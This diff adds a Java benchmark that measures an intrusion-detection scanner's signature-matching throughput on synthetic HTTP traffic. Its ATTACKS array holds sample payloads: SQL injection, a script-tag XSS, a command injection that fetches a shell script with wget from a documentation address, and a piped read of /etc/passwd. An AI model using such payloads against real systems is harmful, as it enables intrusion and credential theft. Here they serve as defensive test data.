@@ -0,0 +1,161 @@
+package org.example.services.inspection;
+
+import org.example.services.rules.RuleLoader;
+import org.example.services.rules.RuleSet;
+
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Random;
+
+/**
+ * Payload scan throughput with and without the prefilter for the content
+ * of the built-in rules, on generated HTTP requests and responses (about
+ * 1% carry an attack pattern).
+ * Run from NLPM after mvn test-compile, with the dependency classpath of
+ * mvn dependency:build-classpath -Dmdep.outputFile=cp.txt:
+ * <pre>
+ * java --add-modules jdk.incubator.vector -cp target/test-classes:target/classes:$(cat cp.txt) \
+ *      org.example.services.inspection.PrefilterBenchmark [payloads] [seconds]
+ * </pre>
+ */
+public class PrefilterBenchmark {
+    private static final String[] PATHS = {
+            "/", "/index.html", "/api/v1/users/1842/orders", "/static/js/app.7f3c2d.js",
+            "/search?q=network+monitoring&page=2", "/images/logo.png", "/login", "/api/v2/metrics?from=1700000000"
+    };
+    private static final String[] AGENTS = {
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+            "curl/8.4.0", "python-requests/2.31.0"
+    };
+    private static final String[] WORDS = {
+            "the", "network", "packet", "monitor", "service", "status", "update", "account", "order", "value",
+            "content", "response", "session", "device", "interface", "traffic", "report", "details", "user", "data"
+    };
+    private static final String[] ATTACKS = {
+            "id=1' or '1'='1", "q=<script>alert(1)</script>", "cmd=x; wget http://203.0.113.9/x.sh",
+            "name=a' UNION SELECT password FROM users--", "file=a | cat /etc/passwd"
+    };
+
+    public static void main(String[] args) {
+        int count = args.length > 0 ? Integer.parseInt(args[0]) : 20000;
+        double seconds = args.length > 1 ? Double.parseDouble(args[1]) : 3;
+
+        List<byte[]> payloads = generate(count, new Random(42));
+        long totalBytes = payloads.stream().mapToLong(p -> p.length).sum();
+        System.out.printf("%d payloads, %.1f MB, average %d bytes%n",
+                payloads.size(), totalBytes / 1e6, totalBytes / payloads.size());
+
+        List<PayloadSignature> signatures = RuleSet.contentSignatures(RuleLoader.loadBuiltIn());
+        double baseline = 0;
+        PayloadPrefilter.Mode[] modes = {PayloadPrefilter.Mode.OFF, PayloadPrefilter.Mode.SCALAR,
+                PayloadPrefilter.Mode.VECTOR};
+        for (PayloadPrefilter.Mode mode : modes) {
+            SignatureSet set = new SignatureSet(signatures, mode);
+            String name = mode == PayloadPrefilter.Mode.VECTOR && !set.getPrefilter().isVectorized() ?
+                    "VECTOR (unavailable, scalar)" : mode.name();
+
+            // Warm up, then measure whole passes over the payloads
+            run(set, payloads, seconds / 3);
+            long[] result = run(set, payloads, seconds);
+            double megabytesPerSecond = result[0] * (double) totalBytes / (result[1] / 1e9) / 1e6;
+            if (mode == PayloadPrefilter.Mode.OFF) {
+                baseline = megabytesPerSecond;
+            }
+            System.out.printf("%-28s %8.0f MB/s  %5.2fx  (%d payloads matched)%n",
+                    name, megabytesPerSecond, megabytesPerSecond / baseline, result[2]);
+        }
+    }
+
+    /**
+     * Returns passes, elapsed nanos and payloads matched per pass
+     */
+    private static long[] run(SignatureSet set, List<byte[]> payloads, double seconds) {
+        SignatureMatches matches = set.newMatches();
+        long deadline = System.nanoTime() + (long) (seconds * 1e9);
+        long start = System.nanoTime();
+        long passes = 0;
+        long matched = 0;
+        do {
+            matched = 0;
+            for (byte[] payload : payloads) {
+                matches.clear();
+                set.scan(payload, 0, payload.length, matches);
+                if (!matches.isEmpty()) {
+                    matched++;
+                }
+            }
+            passes++;
+        } while (System.nanoTime() < deadline);
+        return new long[]{passes, System.nanoTime() - start, matched};
+    }
+
+    private static List<byte[]> generate(int count, Random random) {
+        List<byte[]> payloads = new ArrayList<>(count);
+        for (int i = 0; i < count; i++) {
+            String attack = random.nextInt(100) == 0 ? ATTACKS[random.nextInt(ATTACKS.length)] : null;
+            String text = random.nextBoolean() ? request(random, attack) : response(random);
+            payloads.add(text.getBytes(StandardCharsets.ISO_8859_1));
+        }
+        return payloads;
+    }
+
+    private static String request(Random random, String attack) {
+        boolean post = random.nextInt(4) == 0;
+        String path = PATHS[random.nextInt(PATHS.length)];
+        if (attack != null && !post) {
+            path += (path.contains("?") ? "&" : "?") + attack;
+        }
+        StringBuilder text = new StringBuilder()
+                .append(post ? "POST " : "GET ").append(path).append(" HTTP/1.1\r\n")
+                .append("Host: shop.example.com\r\n")
+                .append("User-Agent: ").append(AGENTS[random.nextInt(AGENTS.length)]).append("\r\n")
+                .append("Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n")
+                .append("Accept-Language: en-US,en;q=0.5\r\n")
+                .append("Accept-Encoding: gzip, deflate, br\r\n")
+                .append("Cookie: session=").append(Long.toHexString(random.nextLong()))
+                .append("; theme=dark; consent=1\r\n")
+                .append("Connection: keep-alive\r\n");
+        if (post) {
+            String body = attack != null ? attack : "username=" + word(random) + "&remember=true&token=" +
+                    Long.toHexString(random.nextLong());
+            text.append("Content-Type: application/x-www-form-urlencoded\r\n")
+                    .append("Content-Length: ").append(body.length()).append("\r\n\r\n").append(body);
+        } else {
+            text.append("\r\n");
+        }
+        return text.toString();
+    }
+
+    private static String response(Random random) {
+        StringBuilder body = new StringBuilder();
+        if (random.nextBoolean()) {
+            body.append("{\"status\":\"ok\",\"items\":[");
+            for (int i = 0, n = 5 + random.nextInt(20); i < n; i++) {
+                body.append(i > 0 ? "," : "").append("{\"id\":").append(random.nextInt(100000))
+                        .append(",\"name\":\"").append(word(random)).append(' ').append(word(random))
+                        .append("\",\"active\":").append(random.nextBoolean()).append('}');
+            }
+            body.append("]}");
+        } else {
+            body.append("<!DOCTYPE html><html><head><title>").append(word(random))
+                    .append("</title><link rel=\"stylesheet\" href=\"/static/css/main.css\"></head><body><div class=\"main\">");
+            for (int i = 0, n = 3 + random.nextInt(10); i < n; i++) {
+                body.append("<p>");
+                for (int w = 0, words = 10 + random.nextInt(30); w < words; w++) {
+                    body.append(word(random)).append(' ');
+                }
+                body.append("</p><a href=\"/").append(word(random)).append("\">").append(word(random)).append("</a>");
+            }
+            body.append("</div></body></html>");
+        }
+        return "HTTP/1.1 200 OK\r\nServer: nginx\r\nDate: Tue, 17 Oct 2023 10:00:00 GMT\r\n" +
+                "Content-Type: " + (body.charAt(0) == '{' ? "application/json" : "text/html; charset=utf-8") +
+                "\r\nContent-Length: " + body.length() + "\r\nCache-Control: no-cache\r\n\r\n" + body;
+    }
+
+    private static String word(Random random) {
+        return WORDS[random.nextInt(WORDS.length)];
+    }
+}